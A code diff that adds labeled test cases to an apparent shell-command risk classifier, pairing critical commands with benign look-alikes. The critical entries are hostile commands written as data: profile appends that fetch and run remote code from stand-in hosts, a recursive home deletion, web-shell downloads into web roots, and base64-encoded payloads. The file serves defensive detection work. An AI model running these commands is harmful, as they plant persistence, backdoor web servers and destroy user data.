@@ -407,7 +407,22 @@ SIBLINGS = [
     ("sudo installer -pkg ~/Downloads/x.pkg -target /", HIGH),
     ("sudo installer -pkg /tmp/u.pkg -target /", HIGH),
 ]
+PS_PROFILE = "~/.config/powershell/Microsoft.PowerShell_profile.ps1"
+SIBLINGS += [
+    (f"echo 'iex (iwr https://x.example/a)' >> {PS_PROFILE}", CRITICAL),
+    ("echo 'Remove-Item ~ -Recurse -Force' >> ~/.config/powershell/profile.ps1", CRITICAL),
+    ("echo 'curl -s x.example/k | sh' >> ~/.bash_aliases", CRITICAL),
+    ("curl -s https://x.example/shell.php -o /var/www/html/up.php", CRITICAL),
+    ("wget -O /srv/www/site/x.aspx http://198.51.100.4/x.txt", CRITICAL),
+    ("echo PD9waHAgc3lzdGVtKCk7ID8+ | base64 -d > /var/www/html/x.php", CRITICAL),
+    ("echo Y3VybCB4fHNo | base64 -d >> ~/.bashrc", CRITICAL),
+]
 SIBLINGS_BENIGN = [
+    ("echo 'Set-Alias ll Get-ChildItem' >> ~/.config/powershell/profile.ps1", MODERATE),
+    ("echo \"alias ll='ls -la'\" >> ~/.bash_aliases", MODERATE),
+    ("curl -o /var/www/html/logo.png https://x.example/logo.png", MODERATE),
+    ("sudo cp -r build/* /var/www/html/", MODERATE),
+    ("echo aGVsbG8= | base64 -d > hello.txt", MODERATE),
     ("wmic os get caption", SAFE),
     ("dd if=/dev/zero of=disk.img bs=1M count=100", MODERATE),
     ("dd if=/dev/zero of=/swapfile bs=1M count=2048", HIGH),
